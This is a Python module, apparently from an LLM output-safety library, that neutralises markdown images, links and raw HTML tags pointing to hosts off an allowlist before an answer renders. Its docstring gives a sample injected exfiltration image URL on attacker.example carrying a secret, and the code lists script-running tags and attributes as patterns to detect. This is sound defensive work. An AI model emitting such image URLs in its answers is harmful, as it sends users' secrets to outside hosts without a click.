"""Output that a page renders: HTML escaping, markdown image/link and raw-HTML neutralisation.

A markdown image is fetched by the browser as soon as the answer renders, so an injected
``![](https://attacker.example/?q=<secret>)`` sends data away without a click. What a CommonMark
renderer (markdown-it-py, with or without raw HTML) would turn into an image or another
auto-loading element pointing outside ``output.link_allowlist`` loses its URL; links with
``javascript:``, ``vbscript:``, ``data:`` or ``file:`` always go; with ``links = "all"``, links
to other hosts too. The destination is read as the renderer reads it: after spaces, tabs and a
line break, inside ``<…>``, with backslash escapes and HTML entities decoded
(``https&#58;//…``), ``//host`` and ``\\\\host`` count as hosts. Reference definitions
(``[r]: https://…``) count as images. Without HTML escaping, a raw tag (``<img src=…>``,
``<IMG SRC=…>``, ``<video poster=…>``, ``<link href=…>``…) whose attributes load from another
host, run script (``on…=``, ``srcdoc``), or that is a ``<script>``/``<style>``/``<iframe>``…, is
broken (its ``<`` becomes ``&lt;``); on HTML routes the whole answer is escaped with markupsafe::

    >>> f = HtmlFilter(allow=("docs.example.com",), escape_html=True)
    >>> f.feed("<b>hi</b> ![x](https://evil.test/a?q=1) [d](https://docs.example.com/p)") + f.flush()
    '&lt;b&gt;hi&lt;/b&gt; ![x] (link removed) [d](https://docs.example.com/p)'
"""

from __future__ import annotations

import bisect
import html as _html
import re
from collections.abc import Callable, Iterable

from markupsafe import escape

from ..context import Finding
from ._rewriter import Rewriter, Trigger, max_width, untriggered

__all__ = ["HtmlFilter", "host_allowed", "outside"]

_DEST = 100
# "](" or "]:", optional blanks and one line break, "<", then the head of the destination — only
# where a decision could remove it: a host, escape or entity character in the head, a scheme
# (letters, maybe with control characters, then ":") at its start, or more blanks after it. A
# plain relative destination is kept as it is without a decision: a hostile run of "](" costs
# one regex search, not a decision per bracket.
_LINK = (
    # (atomic: the lookahead failing must not give back blanks, which would make them "more blanks")
    r"\](?:(?P<paren>\()|(?P<ref>:))(?>[ \t]{0,4}(?:\r?\n[ \t]{0,4})?(?P<angle><)?)"
    rf"(?=[^\s<>()]{{0,{_DEST - 1}}}[/\\&]|[A-Za-z0-9+.\-\x00-\x1f\x7f]{{0,{_DEST - 1}}}:|[ \t\r\n])"
    rf"(?P<dest>[^\s<>()]{{0,{_DEST}}})"
)
# A raw tag's start or an autolink: "<name" and up to 100 characters of attributes.
_TAG = (
    r"<(?:(?P<auto>[A-Za-z][A-Za-z0-9+.\-]{1,31}):(?P<target>[^\s<>]{0,80})"
    r"|(?P<tag>[A-Za-z][A-Za-z0-9\-]{0,15})(?P<attrs>[^<>]{0,100})(?P<close>>)?)"
)
_BOTH = f"{_LINK}|{_TAG}"
_WIDTH = max_width(_BOTH) + 1  # a decision reads the character after the head, too
_LEFT = 512  # how far back an image's "![" is looked for
_BLANK = re.compile(r"\n[ \t]*\r?\n")
# The rest of a removed URL up to a blank (its closing parenthesis too): a run of one class, so
# where it stops never depends on text still to come.
_URL_REST = re.compile(r"[^\s<>]*")
_ANGLE_REST = re.compile(r"[^>\n]*")
_BAD_SCHEMES = ("javascript", "vbscript", "data", "file")
_WEB = ("http", "https", "ftp", "ftps", "ws", "wss")
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_ATTR = re.compile(r"""([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"?|'([^']*)'?|([^\s"'=<>`]+)))?""")
# Tags broken whatever their attributes: they run script, load what their content names, or embed pages.
_LOADING_BY_NAME = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "link"),
        *("meta", "base", "portal", "xml", "svg", "math", "bgsound", "layer"),
    }
)
_URLISH = re.compile(
    r"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?(?://|\\\\|/\\|\\/)[^\s\"'>]*|(?i:https?|ftps?|wss?):[^\s\"'>]*|(?i:javascript|vbscript|data):"
)
_CSS_LOAD = re.compile(r"url\s*\(|image-set\s*\(|image\s*\(|@import|expression\s*\(", re.I)


def host_allowed(host: str, allow: Iterable[str]) -> bool:
    """``host`` (maybe with userinfo and port) is one of ``allow`` or a subdomain of one."""
    if not allow:
        return False
    host = host.rsplit("@", 1)[-1].split(":", 1)[0].strip("[]").lower().rstrip(".")
    return any(host == a or host.endswith("." + a) for a in (x.lower() for x in allow))


def outside(url: str, allow: Iterable[str], strict: bool, complete: bool = True) -> str | None:
    """Why ``url`` (as written in markdown or an attribute) must go, or None: ``"javascript"``…
    for a bad scheme, the host when it is not allowed. ``strict`` (images, attributes): any
    scheme but web ones and relative URLs goes too. ``complete=False``: ``url`` is only the head
    of a longer destination; what cannot be decided from it goes (``"truncated"``)."""
    if _PLAIN.fullmatch(url):
        return None  # no scheme, host, escape or entity can be in it: a relative path
    d = _decoded(url)
    m = _SCHEME.match(d)
    scheme = m.group(1).lower() if m else ""
    if scheme in _BAD_SCHEMES:
        return scheme
    rest = d[m.end() :] if m else d
    if rest[:2] in ("//", "\\\\", "/\\", "\\/") or (scheme in _WEB and rest):
        parts = _HOST_END.split(rest.lstrip("/\\"), maxsplit=1)
        host = parts[0]
        if not complete and len(parts) == 1:
            return "truncated"  # the host may go on past the head
        return None if host and host_allowed(host, allow) else (host or scheme or "//")
    if scheme and strict and scheme not in _WEB:
        return scheme
    if not complete and not m and ("&" in url or "\\" in url):
        return "truncated"  # an encoded scheme may not be decoded yet
    return None


def _decoded(url: str) -> str:
    """``url`` as a browser reads it: HTML entities decoded, backslash escapes resolved, control
    characters and blanks dropped. Each step only when its character is there (a hostile answer
    of outside links every 13 characters paid three regex passes per link)."""
    d = _html.unescape(url) if "&" in url else url
    if "\\" in d:
        d = _ESCAPED.sub(r"\1", d)
    if " " in d or not d.isprintable():
        d = _CONTROL.sub("", d)
    return d


class HtmlFilter(Rewriter):
    """Neutralise markdown images (``links="images"``) or images and links (``"all"``) to
    hosts outside ``allow``, bad-scheme links always, raw auto-loading HTML when not escaping;
    escape HTML when ``escape_html``. ``on_find`` hears each removal."""

    __slots__ = ("_allow", "_bangs", "_blanks", "_escape", "_fed", "_links", "_on_find", "_opens", "_tail", "_where")

    def __init__(
        self,
        allow: Iterable[str] = (),
        escape_html: bool = True,
        links: str = "images",
        on_find: Callable[[Finding], None] | None = None,
        where: str = "",
    ) -> None:
        super().__init__(_BOTH_RE, _WIDTH, _LEFT + 1, _LANES_ESCAPED if escape_html else _LANES_RAW)
        self._allow = tuple(allow)
        self._escape = escape_html
        self._links = links
        self._on_find = on_find
        self._where = where
        # Where each "![" and each blank line (its end) is in the whole answer, so an image
        # opened further back than the left context is still known (alt text of any length).
        self._bangs: list[int] = []
        self._blanks: list[int] = []
        # and each "[": a "](" or "]:" with none before it in its paragraph opens no link or
        # image (CommonMark's inline content never spans a blank line), so it is no candidate
        self._opens: list[int] = []
        self._fed = 0
        self._tail = ""

    def feed(self, text: str) -> str:
        if self._links == "off":
            out = text
        else:
            self._track(text)
            out = super().feed(text)
        return str(escape(out)) if self._escape and out else out

    def _track(self, text: str) -> None:
        if not self._tail and "!" not in text and "\n" not in text and "[" not in text:
            # no mark in it or completed by it, none begun at its end (most small pieces of a
            # stream); the marks grow only where one is added, and are trimmed there
            self._fed += len(text)
            return
        base = self._fed - len(self._tail)
        joined = self._tail + text
        self._bangs += [base + i.start() for i in _BANG.finditer(joined) if base + i.start() + 2 > self._fed]
        self._blanks += [base + b.end() for b in _BLANK.finditer(joined) if base + b.end() > self._fed]
        if "[" in text:
            self._opens += [self._fed + o.start() for o in _OPEN.finditer(text)]
        self._fed += len(text)
        self._tail = _open_end(joined)
        # what no decision can need again: all but the last mark before the left context
        cut = self.absolute(0) - _LEFT - 1
        for marks in (self._bangs, self._blanks, self._opens):
            k = bisect.bisect_left(marks, cut)
            if k > 1:
                del marks[: k - 1]

    def admit(self, trigger: Trigger, runs: list[tuple[int, int, int]], base: int) -> list[tuple[int, int, int]]:
        if trigger is not _LANES_ESCAPED[0] or self._links == "off":
            return runs
        opens, blanks = self._opens, self._blanks
        if not opens:
            return []  # no "[" anywhere (since the left context): no "](" is a link
        # each run from its first "]" with a "[" before it since the last blank line: the run's
        # bounds depend on how the answer was cut into pieces, a candidate's opener does not, so
        # whole and streamed answers try the same candidates (a run holds no blank: no spaces)
        out = []
        for run in runs:
            s = run[1] + base
            k = bisect.bisect_left(opens, s)
            j = bisect.bisect_right(blanks, s)
            if not k or (j and opens[k - 1] < blanks[j - 1]):
                if k == len(opens) or opens[k] >= run[2] + base:
                    continue  # no opener before any of its candidates
                s = opens[k] + 1
            out.append((run[0], s - base, run[2]))
        return out

    def _opened_before(self, s: int) -> bool:
        """An "![" earlier than the left context of ``s`` (absolute), in the same paragraph."""
        k = bisect.bisect_right(self._blanks, s)
        para = self._blanks[k - 1] if k else 0
        i = bisect.bisect_left(self._bangs, para)
        return i < len(self._bangs) and self._bangs[i] < s - _LEFT

    def flush(self) -> str:
        out = super().flush()
        return str(escape(out)) if self._escape and out else out

    def decide(self, text: str, m: re.Match[str]) -> tuple[int, str] | None:
        if "tag" in m.re.groupindex and (m.group("tag") is not None or m.group("auto") is not None):
            return self._tag(text, m)
        s = m.start()
        dest = m.group("dest")
        end = m.end()
        # blanks the pattern does not take before the URL: CommonMark allows any number
        blanks = not dest and end < len(text) and text[end] in " \t\r\n"
        complete = len(dest) < _DEST
        why = "blanks" if blanks else outside(dest, self._allow, True, complete)
        if why is None:
            return None  # kept as an image would be, so kept whatever it is (most destinations)
        if m.group("ref") is not None:
            kind, strict = "markdown_link", True
        else:
            a = self.absolute(s)
            # (an "![" within the left context, from the marks: no read back when there is none)
            k = bisect.bisect_left(self._bangs, a - _LEFT)
            near = k < len(self._bangs) and self._bangs[k] <= a - 2
            strict = (near and _image_open(text, s)) or self._opened_before(a)
            kind = "markdown_image" if strict else "markdown_link"
        # (``why`` as an image's: for a link, only a bad scheme or "truncated" counts below, which
        # an image's reading gives alike)
        if not strict and self._links != "all" and why not in (*_BAD_SCHEMES, "blanks", "truncated"):
            return None  # a link to another host, kept with links = "images"
        self._found(kind, s, end, why)
        self.swallow(_ANGLE_REST if m.group("angle") else _URL_REST, ">" if m.group("angle") else ")")
        return end, "] (link removed)" if m.group("paren") else "]: (link removed)"

    def _tag(self, text: str, m: re.Match[str]) -> tuple[int, str] | None:
        s = m.start()
        if m.group("auto") is not None:  # an autolink <scheme:…>: a link
            scheme = m.group("auto").lower()
            url = f"{scheme}:{m.group('target')}"
            if scheme not in _BAD_SCHEMES and (self._links != "all" or outside(url, self._allow, False) is None):
                return None
            self._found("html_link", s, m.end(), scheme)
            return s + 1, "&lt;"
        name = m.group("tag").lower()
        attrs = m.group("attrs")
        why = name if name in _LOADING_BY_NAME else None
        if why is None and m.group("close") is None and attrs and not attrs.isspace():
            why = "truncated"  # attributes run on past what a decision reads
        if why is None:
            why = self._bad_attribute(name, attrs)
        if why is None:
            return None
        self._found("html_tag", s, m.end(), why)
        return s + 1, "&lt;"

    def _bad_attribute(self, tag: str, attrs: str) -> str | None:
        if not _RISKY.search(attrs):
            return None  # no scheme, host, entity, escape, CSS function or script attribute
        # First anything URL-shaped anywhere in the tag, however the attributes parse (a browser
        # and this parser may split odd ones differently): a host outside the list, a bad scheme.
        flat = _CONTROL.sub("", _ESCAPED.sub(r"\1", _html.unescape(attrs)))
        link = tag == "a" and self._links != "all"
        for u in _URLISH.finditer(flat):
            why = outside(u.group(), self._allow, False)
            if why is not None and (not link or why in _BAD_SCHEMES):
                return why
        for am in _ATTR.finditer(attrs):
            name = am.group(1).lower()
            value = am.group(2) or am.group(3) or am.group(4) or ""
            if name.startswith("on") or name in ("srcdoc", "formaction", "action"):
                return name
            decoded = _html.unescape(value)
            if name == "style" and _CSS_LOAD.search(decoded):
                return name
            if not value:
                continue
            link = tag == "a" and name == "href"
            pieces = decoded.split(",") if name in ("srcset", "imagesrcset") else [decoded]
            for piece in pieces:
                why = outside(piece.strip().split(" ", 1)[0], self._allow, not link)
                if why is not None and (not link or self._links == "all" or why in _BAD_SCHEMES):
                    return why
        return None

    def _found(self, kind: str, start: int, end: int, detail: str) -> None:
        if self._on_find is not None:
            self._on_find(Finding(kind, self.absolute(start), self.absolute(end), detail, 1.0, self._where))


_RISKY = re.compile(r"[:/\\&(@]|(?i:\bon\w*|\bsrcdoc|\bformaction|\baction)\s*=")
_PLAIN = re.compile(r"[^:/\\&]*")
_HOST_END = re.compile(r"[/\\?#]")
_BANG = re.compile(r"!\[")
_OPEN = re.compile(r"\[")
_CLOSE_RUN = re.compile(r"\](?:[^\]\s]{0,16}\])*")
_OPEN_RUN = re.compile(r"<(?:[^<\s]{0,16}<)*")
_BRACKETS = re.compile(r"\\?(?:!?\[|\]\()")
_BOTH_RE = re.compile(_BOTH)
# triggers are runs of brackets close together, so a hostile run of them is one range; built once,
# as the engine keeps what it derives from them per trigger tuple
_LANES_ESCAPED = (Trigger(_CLOSE_RUN, 0, "]", 0, re.compile(_LINK)),)
_LANES_RAW = (*_LANES_ESCAPED, Trigger(_OPEN_RUN, 0, "<", 0, re.compile(_TAG)))


def _open_end(text: str) -> str:
    """The end of ``text`` that the next piece may complete into a mark: a line break and the
    blanks after it (a blank line), or a "!" (an "!["); else "". Read from the end: a regex
    search for it anchored at the end would be tried at every position of the text."""
    kept = text.rstrip(" \t")
    if text.endswith("\r"):  # the CR of a CRLF whose LF is still to come ("\n\r" + "\n")
        kept = text[:-1].rstrip(" \t")
    if kept.endswith("\n"):
        return text[len(kept) - 1 :]
    return "!" if text.endswith("!") else ""


def passes(text: str, escape_html: bool = True, links: str = "images") -> bool:
    """Whether an :class:`HtmlFilter` made with these settings and fed ``text`` whole would return
    it unchanged and find nothing: no character to escape, no bracket or tag its triggers start."""
    if escape_html and _ESCAPABLE.search(text):
        return False
    return links == "off" or untriggered(_LANES_ESCAPED if escape_html else _LANES_RAW, text)


_ESCAPABLE = re.compile("[&<>'\"]")  # what markupsafe.escape replaces


def _image_open(text: str, s: int) -> bool:
    """Whether the ``](`` at ``s`` may close a markdown image: a ``![`` before it in the same
    paragraph (no blank line between) still open once the brackets between are paired (each
    ``](`` closes the latest opener; escaped ones are text). Over-counting is safe (a link is
    then treated as an image), so past 32 brackets the answer is yes; the alt text may hold
    brackets, escapes and line breaks."""
    lo = max(0, s - _LEFT)
    i = text.rfind("![", lo, s)
    if i == -1:
        return False
    for blank in _BLANK.finditer(text, i, s):  # a blank line after the "![": a new paragraph
        lo = blank.end()
    if text.rfind("![", lo, s) == -1:
        return False
    stack: list[bool] = []
    for n, b in enumerate(_BRACKETS.finditer(text, lo, s)):
        if n > 32:
            return True
        tok = b.group()
        if tok[0] == "\\":
            continue
        if tok == "](":
            if stack:
                stack.pop()
        else:
            stack.append(tok == "![")
    return any(stack)
